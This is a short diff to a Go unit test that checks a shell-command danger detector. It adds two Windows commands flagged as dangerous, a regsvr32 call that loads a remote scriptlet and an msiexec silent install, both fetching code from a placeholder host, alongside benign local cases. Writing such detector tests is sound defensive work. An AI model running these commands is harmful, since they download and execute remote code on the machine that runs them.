@@ -54,6 +54,9 @@ func TestShellDanger(t *testing.T) {
 		"node -e \"console.log(require('./package.json').version)\"":  false,
 		`python3 -c "import sys; print(sys.version)"`:                 false,
 		"git log | node scripts/changelog.js":                         false,
+		"regsvr32 /s /n /u /i:http://x.invalid/f.sct scrobj.dll":      true,
+		"msiexec /q /i https://x.invalid/setup.msi":                   true,
+		"regsvr32 /s build\\addon.dll":                                false,
 		"./config.sh --help":                                          false,
 		"curl --version && node --version":                            false,
 	} {
